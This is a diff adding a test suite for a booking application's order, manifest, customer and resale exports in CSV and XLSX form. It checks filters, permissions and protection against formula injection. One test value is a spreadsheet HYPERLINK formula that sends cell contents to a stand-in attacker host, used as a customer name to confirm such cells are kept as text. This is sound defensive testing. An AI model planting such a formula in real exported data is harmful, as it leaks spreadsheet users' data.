@@ -1,0 +1,156 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { useTestApp } from '../../test/app.ts';
+import { createSellableOffer } from '../../test/availability-factories.ts';
+import { expectError } from '../../test/errors.ts';
+import { createMember, useAccount } from '../../test/factories.ts';
+import { book, orderRequests, reserveParty } from '../../test/order-factories.ts';
+
+// Exports of the lists: the list's filters, every cell safe from formula injection, CSV and XLSX.
+const t = useTestApp();
+const a = useAccount(t);
+const b = useAccount(t);
+const DAY = '2026-12-01';
+const { get, post } = orderRequests(t, a);
+beforeEach(() => {
+  t.clock.now = new Date('2026-11-30T08:00:00Z');
+});
+
+const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+let orders: { id: string; reference: string }[] = [];
+beforeAll(async () => {
+  t.clock.now = new Date('2026-11-30T08:00:00Z');
+  const offer = await createSellableOffer(t, a, { lines: [{ time: '10:00' }] });
+  const people = [
+    { first_name: EVIL, last_name: '+Plus', email: 'evil@example.test' },
+    { first_name: 'Grace', last_name: '-Minus', email: 'grace@example.test' },
+    { first_name: 'Alan', last_name: '@At', email: 'alan@example.test' },
+  ];
+  orders = [];
+  for (const who of people) {
+    const hold = await reserveParty(t, a, offer, DAY, { adults: 1 });
+    const res = await book(t, a, hold.id, who);
+    expect(res.statusCode, res.body).toBe(201);
+    orders.push(res.json());
+  }
+  expect((await post(`/api/orders/${orders[2].id}/cancel/`)).statusCode).toBe(200);
+});
+
+/** CSV body as rows of cells (the test's own parser: quoted cells, doubled quotes, CRLF). */
+const parseCsv = (body: string) => {
+  expect(body.startsWith('\ufeff')).toBe(true);
+  const rows = body.slice(1).trimEnd().split('\r\n');
+  return rows.map((row) => [...row.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replaceAll('""', '"')));
+};
+
+/** The first sheet's XML of an XLSX file (unzipped with the system's unzip). */
+const sheetXml = (bytes: Buffer) => {
+  const dir = mkdtempSync(join(tmpdir(), 'xlsx-'));
+  writeFileSync(join(dir, 'file.xlsx'), bytes);
+  const sheet = execFileSync('unzip', ['-p', join(dir, 'file.xlsx'), 'xl/worksheets/sheet1.xml']).toString('utf8');
+  let shared = '';
+  try {
+    shared = execFileSync('unzip', ['-p', join(dir, 'file.xlsx'), 'xl/sharedStrings.xml']).toString('utf8');
+  } catch {
+    // inline strings only
+  }
+  return { sheet, shared };
+};
+
+describe('orders export', () => {
+  it('is CSV with the list’s filters, every formula-looking cell kept as text', async () => {
+    const res = await get('/api/orders/export/');
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
+    const rows = parseCsv(res.body);
+    expect(rows[0].slice(0, 3)).toEqual(['Reference', 'Created', 'Status']);
+    expect(rows).toHaveLength(4);
+    const cells = rows.flat();
+    expect(cells).toContain(`'${EVIL}`);
+    expect(cells).toContain("'+Plus");
+    expect(cells).toContain("'-Minus");
+    expect(cells).toContain("'@At");
+    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
+
+    const canceled = parseCsv((await get('/api/orders/export/?status=canceled')).body);
+    expect(canceled.slice(1).map((r) => r[0])).toEqual([orders[2].reference]);
+    const searched = parseCsv((await get('/api/orders/export/?search=grace%40example.test')).body);
+    expect(searched.slice(1).map((r) => r[0])).toEqual([orders[1].reference]);
+    const ordered = parseCsv((await get('/api/orders/export/?ordering=number')).body);
+    expect(ordered.slice(1).map((r) => r[0])).toEqual(orders.map((o) => o.reference));
+  });
+
+  it('is XLSX on request, with text cells (never formulas)', async () => {
+    const res = await get('/api/orders/export/?format=xlsx&status=confirmed');
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(res.headers['content-disposition']).toMatch(/filename="orders-.*\.xlsx"/);
+    const { sheet, shared } = sheetXml(res.rawPayload);
+    expect(sheet).not.toContain('<f>');
+    const text = sheet + shared;
+    // The value as it is (XML-escaped), in a string cell.
+    expect(text).toContain('<t>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</t>');
+    expect(text).toContain('+Plus');
+    expect(text).not.toContain('@At'); // canceled: filtered out
+  });
+
+  it('refuses bad filters as the list does, other permissions and other organizations’ rows', async () => {
+    expectError(await get('/api/orders/export/?status=lost'), 400, { attr: 'status' });
+    expectError(await get('/api/orders/export/?format=pdf'), 400, { attr: 'format' });
+    const viewer = await createMember(t, a, ['View experiences']);
+    expectError(await get('/api/orders/export/', viewer.headers), 403, { code: 'permission_denied' });
+    const theirs = parseCsv((await get('/api/orders/export/', b.owner.headers)).body);
+    expect(theirs).toHaveLength(1);
+  });
+});
+
+describe('manifest, customers and resales exports', () => {
+  it('the day’s manifest with the list’s filters', async () => {
+    const res = await get(`/api/bookings/by-date/export/?date=${DAY}`);
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-disposition']).toBe(`attachment; filename="manifest-${DAY}.csv"`);
+    const rows = parseCsv(res.body);
+    expect(rows[0]).toEqual([
+      'Time',
+      'Offer',
+      'Order',
+      'First name',
+      'Last name',
+      'Email',
+      'Phone',
+      'Participants',
+      'Party',
+      'Status',
+      'Attendance',
+    ]);
+    expect(rows).toHaveLength(4);
+    expect(rows[1][8]).toMatch(/^1 × Adult/);
+    const active = parseCsv((await get(`/api/bookings/by-date/export/?date=${DAY}&status=canceled`)).body);
+    expect(active.slice(1).map((r) => r[2])).toEqual([orders[2].reference]);
+    expectError(await get('/api/bookings/by-date/export/'), 400, { attr: 'date' });
+    const xlsx = await get(`/api/bookings/by-date/export/?date=${DAY}&format=xlsx`);
+    expect(xlsx.statusCode).toBe(200);
+    expect(sheetXml(xlsx.rawPayload).sheet).not.toContain('<f>');
+  });
+
+  it('customers with the search of the list', async () => {
+    const all = parseCsv((await get('/api/customers/export/')).body);
+    expect(all).toHaveLength(4);
+    expect(all.flat()).toContain(`'${EVIL}`);
+    const one = parseCsv((await get('/api/customers/export/?search=alan')).body);
+    expect(one.slice(1).map((r) => r[2])).toEqual(['alan@example.test']);
+  });
+
+  it('resales: the header row when there are none; the list’s filters are checked', async () => {
+    const res = await get('/api/resales/export/?side=reseller&format=csv');
+    expect(res.statusCode, res.body).toBe(200);
+    const rows = parseCsv(res.body);
+    expect(rows).toHaveLength(1);
+    expect(rows[0].slice(0, 4)).toEqual(['Reference', 'Created', 'Supplier', 'Reseller']);
+    expectError(await get('/api/resales/export/?side=both'), 400, { attr: 'side' });
+  });
+});
